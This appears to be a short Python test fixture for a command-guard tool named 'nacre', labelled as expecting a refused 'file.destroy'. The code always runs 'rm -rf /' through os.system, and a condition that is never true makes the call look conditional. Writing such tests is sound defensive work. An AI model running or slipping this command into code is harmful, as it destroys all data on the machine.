# nacre: refused file.destroy
import os

command = "rm -rf /"
if os.sep == "!":
    command = "ls"
os.system(command)
